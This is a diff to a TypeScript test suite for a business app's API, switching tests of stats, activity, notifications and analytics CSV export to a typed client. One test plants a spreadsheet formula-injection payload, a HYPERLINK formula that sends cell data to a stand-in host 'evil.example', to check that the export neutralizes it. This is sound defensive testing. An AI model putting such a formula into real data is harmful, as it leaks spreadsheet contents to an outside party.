@@ -1,20 +1,19 @@
-// deno-lint-ignore-file no-explicit-any
 import assert from "node:assert/strict";
-import { expectJson, withTestApp } from "../testing.ts";
+import { type ApiClient, expectOk, withTestApp } from "../testing.ts";
+import type { Answer } from "../../components/api.ts";
 import { eq } from "drizzle-orm";
 import { users } from "../../db/schema/mod.ts";
 
 Deno.test("[api] GET /api/stats answers numbers and change strings for every period", () =>
   withTestApp(async (t) => {
     for (const period of ["7d", "30d", "90d", "1y", "all"]) {
-      const s = await expectJson(
-        t.request(`/api/stats?period=${period}`, { as: "engineer@demo.local" }),
-        200,
-      );
-      for (const key of ["activeProjects", "tasksInProgress", "completedTasks", "teamSize", "revenue"]) {
+      const s = await expectOk(t.as("engineer@demo.local").api.stats.$get({ query: { period } }), 200);
+      for (
+        const key of ["activeProjects", "tasksInProgress", "completedTasks", "teamSize", "revenue"] as const
+      ) {
         assert.equal(typeof s[key], "number", key);
       }
-      for (const key of ["projectsChange", "tasksChange", "teamChange"]) {
+      for (const key of ["projectsChange", "tasksChange", "teamChange"] as const) {
         assert.match(s[key], /^(\+\d+ нов(ый|ая|ых) за .+|новых за .+ нет)$/, `${key}=${s[key]}`);
       }
       assert.ok(
@@ -22,20 +21,25 @@ Deno.test("[api] GET /api/stats answers numbers and change strings for every per
         `revenueChange=${s.revenueChange}`,
       );
     }
+    // Raw (and below): without ?period=, which the typed /api/stats demands (its query schema reads unknown).
     const s = await (await t.request("/api/stats", { as: "engineer@demo.local" })).json();
     assert.equal(s.period, "30d");
     assert.equal(s.activeProjects, 8, "ten demo objects, one completed and one cancelled");
     assert.equal(s.teamSize, 7);
-    assert.equal((await t.request("/api/stats?period=2w", { as: "engineer@demo.local" })).status, 422);
+    assert.equal((await t.as("engineer@demo.local").api.stats.$get({ query: { period: "2w" } })).status, 422);
     const other = await (await t.request("/api/stats", { as: "admin@other.local" })).json();
     assert.equal(other.activeProjects, 2);
     assert.equal(other.teamSize, 1);
   }));
 
+/** The answer of /api/activity, read through a raw call. */
+type Feed = Answer<ApiClient["activity"]["$get"]>;
+
 Deno.test("[api] GET /api/activity and /api/activities answer the same feed of the company", () =>
   withTestApp(async (t) => {
-    const a: any[] = await (await t.request("/api/activity", { as: "engineer@demo.local" })).json();
-    const b: any[] = await (await t.request("/api/activities", { as: "engineer@demo.local" })).json();
+    // Raw: the typed /api/activity demands ?limit= (its query schema reads unknown), which these reads leave out.
+    const a: Feed = await (await t.request("/api/activity", { as: "engineer@demo.local" })).json();
+    const b: Feed = await (await t.request("/api/activities", { as: "engineer@demo.local" })).json();
     assert.ok(a.length > 0);
     assert.deepEqual(a, b);
     for (const item of a) {
@@ -45,40 +49,41 @@ Deno.test("[api] GET /api/activity and /api/activities answer the same feed of t
           "createdAt" in item,
       );
     }
-    const other: any[] = await (await t.request("/api/activity", { as: "admin@other.local" })).json();
+    const other: Feed = await (await t.request("/api/activity", { as: "admin@other.local" })).json();
     assert.equal(other.length, 0);
   }));
 
 Deno.test("[api] PUT /api/notifications/mark-all-read leaves nothing unread", () =>
   withTestApp(async (t) => {
-    const before: any[] = await (await t.request("/api/notifications", { as: "surveyor@demo.local" })).json();
+    const notifications = t.as("surveyor@demo.local").api.notifications;
+    const before = await (await notifications.$get()).json();
     assert.ok(before.some((n) => !n.isRead));
-    const res = await t.as("surveyor@demo.local").put("/api/notifications/mark-all-read");
+    const res = await notifications["mark-all-read"].$put();
     assert.equal(res.status, 200);
-    const after: any[] = await (await t.request("/api/notifications", { as: "surveyor@demo.local" })).json();
+    const after = await (await notifications.$get()).json();
     assert.equal(after.filter((n) => !n.isRead).length, 0);
-    const count = await (await t.request("/api/notifications/unread-count", { as: "surveyor@demo.local" }))
-      .json();
+    const count = await (await notifications["unread-count"].$get()).json();
     assert.equal(count.count, 0);
   }));
 
 Deno.test("[api] GET /api/analytics answers KPIs, money and recommendations; each table downloads as CSV", () =>
   withTestApp(async (t) => {
-    const a = await (await t.request("/api/analytics?period=all", { as: "engineer@demo.local" })).json();
+    const a = await (await t.as("engineer@demo.local").api.analytics.$get({ query: { period: "all" } }))
+      .json();
     assert.equal(a.kpi.activeObjects, 8);
     // The demo's two late tasks and its overdue service visit (db/seed/service_visits.ts).
     assert.equal(a.kpi.overdueTasks, 3);
     // Ten objects in every status and the three finished jobs (db/seed/finished_jobs.ts).
     assert.equal(a.finance.objectCount, 13);
     assert.equal(a.finance.averageKopecks, Math.round(a.finance.estimatedKopecks / 13));
-    assert.ok(a.recommendations.some((r: any) => r.title === "Есть просроченные задачи"));
+    assert.ok(a.recommendations.some((r) => r.title === "Есть просроченные задачи"));
     assert.ok(
-      !a.recommendations.some((r: any) => r.title === "Высокая загрузка"),
+      !a.recommendations.some((r) => r.title === "Высокая загрузка"),
       "8 active tasks are not high workload",
     );
     for (const table of ["objects", "tasks", "workTypes", "performance", "team"]) {
-      const res = await t.request(`/api/analytics/export?table=${table}&period=all`, {
-        as: "engineer@demo.local",
+      const res = await t.as("engineer@demo.local").api.analytics.export.$get({
+        query: { table, period: "all" },
       });
       assert.equal(res.status, 200, table);
       assert.match(res.headers.get("content-type") ?? "", /text\/csv/);
@@ -123,8 +128,8 @@ Deno.test("[api] GET /api/analytics/export neutralizes a name that a spreadsheet
     const attack = '=HYPERLINK("http://evil.example/?x="&B2,"open")';
     await t.deps.db.update(users).set({ firstName: attack, lastName: "+7" })
       .where(eq(users.email, "surveyor@demo.local"));
-    const res = await t.request("/api/analytics/export?table=performance&period=all", {
-      as: "director@demo.local",
+    const res = await t.as("director@demo.local").api.analytics.export.$get({
+      query: { table: "performance", period: "all" },
     });
     assert.equal(res.status, 200);
     const cells = (await res.text()).split(/\r\n/).flatMap((line) => line.split(";"));
